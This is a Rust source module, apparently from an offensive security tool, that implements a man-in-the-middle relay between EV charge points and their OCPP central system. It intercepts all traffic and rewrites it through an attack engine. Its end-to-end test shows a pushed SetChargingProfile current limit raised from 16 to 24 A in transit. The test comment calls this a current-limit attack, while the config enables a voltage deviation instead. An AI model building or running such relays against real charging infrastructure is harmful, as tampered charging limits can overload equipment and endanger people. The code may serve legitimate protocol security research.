//! MITM WebSocket relay
//!
//! Accepts charge-point connections at `ws://<host>:<port>/ocpp/{charge_point_id}`,
//! opens an outbound connection to the real central system with the same
//! negotiated subprotocol, and runs one pump task per direction. Frames pass
//! through the [`MessageInterceptor`]; only connection-level I/O errors may
//! terminate a task pair.

use std::net::SocketAddr;
use std::sync::Arc;

use futures_util::{Sink, SinkExt, Stream, StreamExt};
use tokio::net::{TcpListener, TcpStream};
use tokio_tungstenite::tungstenite::client::IntoClientRequest;
use tokio_tungstenite::tungstenite::handshake::server::{Request, Response};
use tokio_tungstenite::tungstenite::{Error as WsError, Message};
use tracing::{error, info, warn};

use crate::attack::AttackEngine;
use crate::domain::OcppVersion;
use crate::parser::ProfileParser;
use crate::support::shutdown::ShutdownSignal;

use super::interceptor::{create_interceptor, SharedInterceptor};
use super::registry::{SessionRegistry, SharedSessionRegistry};
use super::Direction;

/// Relay endpoints.
#[derive(Debug, Clone)]
pub struct RelayConfig {
    /// Listener host address
    pub listen_host: String,
    /// Listener port
    pub listen_port: u16,
    /// Real central system host
    pub target_host: String,
    /// Real central system port
    pub target_port: u16,
}

impl RelayConfig {
    pub fn address(&self) -> String {
        format!("{}:{}", self.listen_host, self.listen_port)
    }

    pub fn target_address(&self) -> String {
        format!("{}:{}", self.target_host, self.target_port)
    }
}

impl Default for RelayConfig {
    fn default() -> Self {
        Self {
            listen_host: "0.0.0.0".to_string(),
            listen_port: 9000,
            target_host: "127.0.0.1".to_string(),
            target_port: 9100,
        }
    }
}

/// Man-in-the-middle relay between charge points and their central system.
pub struct MitmRelay {
    config: RelayConfig,
    registry: SharedSessionRegistry,
    interceptor: SharedInterceptor,
    shutdown: ShutdownSignal,
}

impl MitmRelay {
    pub fn new(config: RelayConfig, engine: Arc<AttackEngine>) -> Self {
        let registry = Arc::new(SessionRegistry::new());
        let interceptor = create_interceptor(engine, registry.clone());
        Self {
            config,
            registry,
            interceptor,
            shutdown: ShutdownSignal::new(),
        }
    }

    pub fn registry(&self) -> &SharedSessionRegistry {
        &self.registry
    }

    pub fn shutdown_signal(&self) -> ShutdownSignal {
        self.shutdown.clone()
    }

    /// Cancel all active connection loops and close the listener.
    pub fn stop(&self) {
        self.shutdown.trigger();
    }

    /// Bind the configured listener and serve until stopped.
    pub async fn run(&self) -> Result<(), Box<dyn std::error::Error + Send + Sync>> {
        let addr = self.config.address();
        let listener = TcpListener::bind(&addr).await?;

        info!("🔌 OCPP interception relay listening on ws://{}", addr);
        info!(
            "   Forwarding charge points to ws://{}",
            self.config.target_address()
        );
        self.run_on(listener).await
    }

    /// Serve connections from an already-bound listener.
    pub async fn run_on(
        &self,
        listener: TcpListener,
    ) -> Result<(), Box<dyn std::error::Error + Send + Sync>> {
        loop {
            tokio::select! {
                result = listener.accept() => {
                    match result {
                        Ok((stream, addr)) => {
                            self.spawn_connection(stream, addr);
                        }
                        Err(e) => {
                            error!("Failed to accept connection: {}", e);
                        }
                    }
                }
                _ = self.shutdown.notified().wait() => {
                    info!("🛑 Relay received shutdown signal");
                    for cp_id in self.registry.connected_ids() {
                        self.registry.unregister(&cp_id);
                    }
                    return Ok(());
                }
            }
        }
    }

    fn spawn_connection(&self, stream: TcpStream, addr: SocketAddr) {
        let registry = self.registry.clone();
        let interceptor = self.interceptor.clone();
        let target = self.config.target_address();
        let shutdown = self.shutdown.clone();

        tokio::spawn(async move {
            if let Err(e) =
                handle_connection(stream, addr, target, registry, interceptor, shutdown).await
            {
                error!("Connection error from {}: {}", addr, e);
            }
        });
    }
}

/// Extract charge point ID from WebSocket request path.
/// Expected format: /ocpp/{charge_point_id} or /{charge_point_id}
fn extract_charge_point_id(path: &str) -> Option<String> {
    let path = path.trim_start_matches('/');

    if let Some(id) = path.strip_prefix("ocpp/") {
        let id = id.trim_start_matches('/');
        if !id.is_empty() {
            return Some(id.to_string());
        }
    }

    if !path.is_empty() && !path.contains('/') {
        return Some(path.to_string());
    }

    None
}

/// Pick the subprotocol to accept: the newest advertised version the
/// charge point offered, or none.
fn choose_subprotocol(requested: &str) -> Option<&'static str> {
    let offered: Vec<&str> = requested.split(',').map(|s| s.trim()).collect();
    OcppVersion::ADVERTISED
        .iter()
        .map(|v| v.subprotocol())
        .find(|p| offered.contains(p))
}

/// Handle a single relayed connection: handshake with the charge point,
/// dial the central system with the same subprotocol, then pump frames
/// both ways until either side closes or the relay shuts down.
async fn handle_connection(
    stream: TcpStream,
    addr: SocketAddr,
    target: String,
    registry: SharedSessionRegistry,
    interceptor: SharedInterceptor,
    shutdown: ShutdownSignal,
) -> Result<(), Box<dyn std::error::Error + Send + Sync>> {
    info!("New connection from: {}", addr);

    let mut charge_point_id: Option<String> = None;
    let mut subprotocol: Option<&'static str> = None;

    let cp_stream = tokio_tungstenite::accept_hdr_async(
        stream,
        |req: &Request, mut response: Response| {
            let path = req.uri().path();
            info!("WebSocket handshake from: {}, path: {}", addr, path);

            let requested_protocols = req
                .headers()
                .get("Sec-WebSocket-Protocol")
                .and_then(|v| v.to_str().ok())
                .unwrap_or("");

            if let Some(chosen) = choose_subprotocol(requested_protocols) {
                // static subprotocol strings are always valid header values
                response
                    .headers_mut()
                    .insert("Sec-WebSocket-Protocol", chosen.parse().unwrap());
                subprotocol = Some(chosen);
            } else if !requested_protocols.is_empty() {
                warn!(
                    "No mutually supported OCPP subprotocol, requested: {}",
                    requested_protocols
                );
            }

            charge_point_id = extract_charge_point_id(path);
            Ok(response)
        },
    )
    .await?;

    let charge_point_id = charge_point_id.unwrap_or_else(|| format!("CP_{}", addr.port()));
    let version = ProfileParser::detect_version(subprotocol.unwrap_or(""));

    info!(
        "[{}] Connected from {} ({})",
        charge_point_id, addr, version
    );

    // Dial the real central system with the same subprotocol so both
    // sides of the relay speak the same OCPP version.
    let url = format!("ws://{}/ocpp/{}", target, charge_point_id);
    let mut request = url.into_client_request()?;
    if let Some(proto) = subprotocol {
        request
            .headers_mut()
            .insert("Sec-WebSocket-Protocol", proto.parse().unwrap());
    }
    let (upstream, _) = match tokio_tungstenite::connect_async(request).await {
        Ok(ok) => ok,
        Err(e) => {
            error!("[{}] Upstream connect to {} failed: {}", charge_point_id, target, e);
            return Err(e.into());
        }
    };

    registry.register(charge_point_id.clone(), version);

    let (cp_write, cp_read) = cp_stream.split();
    let (up_write, up_read) = upstream.split();

    let mut client_to_server = tokio::spawn(pump(
        cp_read,
        up_write,
        Direction::ClientToServer,
        charge_point_id.clone(),
        interceptor.clone(),
        registry.clone(),
    ));
    let mut server_to_client = tokio::spawn(pump(
        up_read,
        cp_write,
        Direction::ServerToClient,
        charge_point_id.clone(),
        interceptor,
        registry.clone(),
    ));

    // Either pump finishing (peer closed, I/O error) cancels the sibling;
    // cancellation lands between frames, never mid-frame.
    tokio::select! {
        _ = &mut client_to_server => server_to_client.abort(),
        _ = &mut server_to_client => client_to_server.abort(),
        _ = shutdown.notified().wait() => {
            info!("[{}] Connection closing due to relay shutdown", charge_point_id);
            client_to_server.abort();
            server_to_client.abort();
        }
    }

    registry.unregister(&charge_point_id);
    info!("[{}] Disconnected", charge_point_id);

    Ok(())
}

/// Relay frames from one side to the other until the source closes.
async fn pump<S, D>(
    mut source: S,
    mut dest: D,
    direction: Direction,
    charge_point_id: String,
    interceptor: SharedInterceptor,
    registry: SharedSessionRegistry,
) where
    S: Stream<Item = Result<Message, WsError>> + Unpin,
    D: Sink<Message, Error = WsError> + Unpin,
{
    while let Some(msg) = source.next().await {
        match msg {
            Ok(Message::Text(text)) => {
                registry.record_frame(&charge_point_id, direction);
                let out = interceptor.intercept(&text, direction, &charge_point_id);
                if let Err(e) = dest.send(Message::Text(out)).await {
                    error!("[{}] {} send error: {}", charge_point_id, direction, e);
                    break;
                }
            }
            Ok(Message::Binary(data)) => {
                warn!(
                    "[{}] {} binary frame ({} bytes), forwarding unchanged",
                    charge_point_id,
                    direction,
                    data.len()
                );
                if dest.send(Message::Binary(data)).await.is_err() {
                    break;
                }
            }
            Ok(Message::Ping(data)) => {
                if dest.send(Message::Ping(data)).await.is_err() {
                    break;
                }
            }
            Ok(Message::Pong(data)) => {
                if dest.send(Message::Pong(data)).await.is_err() {
                    break;
                }
            }
            Ok(Message::Close(frame)) => {
                info!("[{}] {} close frame: {:?}", charge_point_id, direction, frame);
                let _ = dest.send(Message::Close(frame)).await;
                break;
            }
            Ok(Message::Frame(_)) => {}
            Err(e) => {
                error!("[{}] {} WebSocket error: {}", charge_point_id, direction, e);
                break;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::attack::AttackConfig;
    use crate::sink::NullSink;

    #[test]
    fn extract_id_from_ocpp_path() {
        assert_eq!(extract_charge_point_id("/ocpp/CP001"), Some("CP001".into()));
        assert_eq!(extract_charge_point_id("/CP001"), Some("CP001".into()));
        assert_eq!(extract_charge_point_id("/"), None);
        assert_eq!(extract_charge_point_id("/a/b/c"), None);
    }

    #[test]
    fn choose_subprotocol_prefers_newest() {
        assert_eq!(choose_subprotocol("ocpp1.6"), Some("ocpp1.6"));
        assert_eq!(
            choose_subprotocol("ocpp1.6, ocpp2.0.1"),
            Some("ocpp2.0.1")
        );
        assert_eq!(choose_subprotocol("ocpp1.6,ocpp2.0"), Some("ocpp2.0"));
        assert_eq!(choose_subprotocol("mqtt"), None);
        assert_eq!(choose_subprotocol(""), None);
    }

    // ── End-to-end relay test ──────────────────────────────

    /// A minimal stand-in central system: accepts one connection, pushes
    /// a SetChargingProfile call, then records everything it receives.
    async fn fake_csms(listener: TcpListener, received: tokio::sync::mpsc::UnboundedSender<String>) {
        let (stream, _) = listener.accept().await.unwrap();
        // A real CSMS echoes the negotiated OCPP subprotocol back in the
        // handshake response; mirror that so the relay's upstream client
        // accepts the connection.
        let ws = tokio_tungstenite::accept_hdr_async(
            stream,
            |req: &Request, mut response: Response| {
                if let Some(proto) = req
                    .headers()
                    .get("Sec-WebSocket-Protocol")
                    .and_then(|v| v.to_str().ok())
                    .and_then(|s| s.split(',').next())
                    .map(|s| s.trim().to_string())
                {
                    response
                        .headers_mut()
                        .insert("Sec-WebSocket-Protocol", proto.parse().unwrap());
                }
                Ok(response)
            },
        )
        .await
        .unwrap();
        let (mut write, mut read) = ws.split();

        let set_profile = json!([2, "sp-1", "SetChargingProfile", {
            "connectorId": 1,
            "csChargingProfiles": {
                "chargingProfileId": 9,
                "stackLevel": 0,
                "chargingSchedule": {
                    "chargingRateUnit": "A",
                    "chargingSchedulePeriod": [
                        {"startPeriod": 0, "limit": 16.0}
                    ]
                }
            }
        }])
        .to_string();
        write.send(Message::Text(set_profile)).await.unwrap();

        while let Some(Ok(msg)) = read.next().await {
            if let Message::Text(text) = msg {
                received.send(text).unwrap();
            }
        }
    }

    #[tokio::test]
    async fn relays_and_rewrites_live_traffic() {
        // stand-in CSMS on an ephemeral port
        let csms_listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let csms_port = csms_listener.local_addr().unwrap().port();
        let (tx, mut csms_received) = tokio::sync::mpsc::unbounded_channel();
        tokio::spawn(fake_csms(csms_listener, tx));

        // relay with a 50% current-limit attack
        let config = AttackConfig {
            voltage_enabled: true,
            voltage_deviation_percent: 50.0,
            current_enabled: false,
            curve_enabled: false,
            ..Default::default()
        };
        let engine = Arc::new(AttackEngine::new(config, Arc::new(NullSink)));
        let relay = Arc::new(MitmRelay::new(
            RelayConfig {
                listen_host: "127.0.0.1".to_string(),
                listen_port: 0,
                target_host: "127.0.0.1".to_string(),
                target_port: csms_port,
            },
            engine,
        ));

        let relay_listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let relay_port = relay_listener.local_addr().unwrap().port();
        let relay_task = {
            let relay = relay.clone();
            tokio::spawn(async move { relay.run_on(relay_listener).await })
        };

        // charge point dials the relay with an OCPP 1.6 subprotocol
        let url = format!("ws://127.0.0.1:{relay_port}/ocpp/CPTEST");
        let mut request = url.into_client_request().unwrap();
        request
            .headers_mut()
            .insert("Sec-WebSocket-Protocol", "ocpp1.6".parse().unwrap());
        let (cp_ws, response) = tokio_tungstenite::connect_async(request).await.unwrap();
        assert_eq!(
            response
                .headers()
                .get("Sec-WebSocket-Protocol")
                .and_then(|v| v.to_str().ok()),
            Some("ocpp1.6")
        );
        let (mut cp_write, mut cp_read) = cp_ws.split();

        // CS→CP: the pushed SetChargingProfile arrives rewritten
        let pushed = tokio::time::timeout(std::time::Duration::from_secs(5), cp_read.next())
            .await
            .unwrap()
            .unwrap()
            .unwrap();
        let Message::Text(text) = pushed else {
            panic!("expected text frame");
        };
        let parsed: serde_json::Value = serde_json::from_str(&text).unwrap();
        assert_eq!(parsed[2], "SetChargingProfile");
        assert_eq!(
            parsed[3]["csChargingProfiles"]["chargingSchedule"]["chargingSchedulePeriod"][0]
                ["limit"],
            24.0
        );

        // CP→CS: a heartbeat and the call result pass through byte-identical
        let heartbeat = r#"[2,"hb-1","Heartbeat",{}]"#;
        cp_write
            .send(Message::Text(heartbeat.to_string()))
            .await
            .unwrap();
        let call_result = r#"[3,"sp-1",{"status":"Accepted"}]"#;
        cp_write
            .send(Message::Text(call_result.to_string()))
            .await
            .unwrap();

        let first = tokio::time::timeout(
            std::time::Duration::from_secs(5),
            csms_received.recv(),
        )
        .await
        .unwrap()
        .unwrap();
        assert_eq!(first, heartbeat);
        let second = tokio::time::timeout(
            std::time::Duration::from_secs(5),
            csms_received.recv(),
        )
        .await
        .unwrap()
        .unwrap();
        assert_eq!(second, call_result);

        assert!(relay.registry().is_connected("CPTEST"));

        // charge point disconnects; the relay tears the pair down
        drop(cp_write);
        drop(cp_read);
        for _ in 0..50 {
            if relay.registry().connection_count() == 0 {
                break;
            }
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        }
        assert_eq!(relay.registry().connection_count(), 0);

        relay.stop();
        let _ = relay_task.await;
    }
}
